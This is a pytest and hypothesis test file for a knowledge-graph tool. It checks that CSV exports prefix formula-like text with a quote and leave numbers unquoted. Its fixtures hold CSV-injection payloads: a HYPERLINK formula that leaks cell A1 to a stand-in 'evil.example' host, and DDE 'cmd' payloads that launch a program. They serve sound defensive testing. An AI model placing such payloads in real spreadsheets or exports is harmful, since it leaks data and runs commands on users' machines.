"""Every CSV kg writes opens in a spreadsheet as data: text that would start a formula gets a leading quote,
numbers stay numbers (kg.csv_cells), in a build of articles whose names, titles and sentences are formulas."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kg.config import Config
from kg.csv_cells import FORMULA_STARTS, csv_text, safe_cell
from kg.pipeline import build
from kg.query import query
from kg.records import Entity, Extraction, Relation
from tests.fakes import STORY, fake_module

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
TITLE = "=cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
SENTENCE = "-2+3 said the minister, and Wang Yi met Sergei Lavrov."
CSVS = ("events.csv", "neo4j/nodes.csv", "neo4j/relationships.csv")


def _number(text: str) -> bool:
    """A number as a spreadsheet reads one: ASCII digits, sign, point and exponent (not inf, nan or 1_000)."""
    if not text.isascii() or text != text.strip() or "_" in text or any(c.isalpha() and c not in "eE" for c in text):
        return False
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(st.text())
def test_a_safe_cell_is_the_text_or_the_text_after_one_quote_and_never_a_formula(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    assert not cell.startswith(FORMULA_STARTS) or _number(cell)
    assert (cell != text) == (text.startswith(FORMULA_STARTS) and not _number(text))


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_are_written_as_they_are(number):
    assert safe_cell(number) == number
    assert safe_cell(str(number)) == str(number)  # -2.5, -1e-05: numbers, no formulas


@pytest.mark.parametrize("text", [LINK, "+1-1", "-A1", "@A1", "\t=1", "\r=1", "=", "-", "-2+3", "-inf", "\t1"])
def test_formula_starts_get_a_quote(text):
    assert list(csv.reader(io.StringIO(csv_text(["x"], [[text]]), newline="")))[1] == ["'" + text]


def _extract(articles, *, config=None):
    for article in articles:
        start = article.body.index(SENTENCE)
        yield Extraction(article, entities=(Entity(LINK, "Person"), Entity(SUM, "Organization")),
                         relations=(Relation(LINK, "Person", "meets", SUM, "Organization", SENTENCE, start,
                                             start + len(SENTENCE), date="2024-05-06", place="-Moscow",
                                             confidence=0.9),))


def _cells(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))


@pytest.fixture
def built(tmp_path, monkeypatch) -> Path:
    """A build (real store, merge and exports; extraction stands in for the model) of one article whose
    file name, title, entity names, place and sentence are formulas."""
    monkeypatch.setitem(sys.modules, "kg.extract", fake_module("kg.extract", extract=_extract))
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "+report.txt").write_text(f"{TITLE}\n\n{SENTENCE} {STORY}", "utf-8")
    build([tmp_path / "in"], out=tmp_path / "out", formats=["events", "neo4j"], progress=False, config=Config(jobs=1))
    return tmp_path / "out"


def test_no_csv_of_a_build_holds_a_formula(built):
    for name in CSVS:
        for row in _cells(built / name):
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS) or _number(cell), (name, column, cell)


def test_formula_text_keeps_its_text_after_the_quote_and_numbers_stay(built):
    events = _cells(built / "events.csv")
    assert [({e["source_name"], e["target_name"]}, e["first_article"], e["first_sentence"], e["confidence"])
            for e in events] == [({"'" + LINK, "'" + SUM}, "'+report.txt", "'" + SENTENCE, "0.9")]  # meets: either way
    nodes = {row["name"]: row for row in _cells(built / "neo4j/nodes.csv")}
    assert {"'" + LINK, "'" + SUM, "'" + TITLE} <= set(nodes)
    assert nodes["'" + TITLE]["file"] == "'+report.txt"
    relationships = [r for r in _cells(built / "neo4j/relationships.csv") if r[":TYPE"] == "MEETS"]
    assert [(r["sentence"], r["place"], r["confidence:float"]) for r in relationships] == [
        ("'" + SENTENCE, "'-Moscow", "0.9")]


def test_query_csv_quotes_formulas_and_keeps_negative_numbers(built):
    result = query('PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#> SELECT ?name ?n '
                   'WHERE { ?e rdfs:label ?name FILTER(STRSTARTS(?name, "=HYP")) BIND(-2.5 AS ?n) } LIMIT 1',
                   out=built)
    assert list(csv.reader(io.StringIO(result.format("csv")))) == [["name", "n"], ["'" + LINK, "-2.5"]]
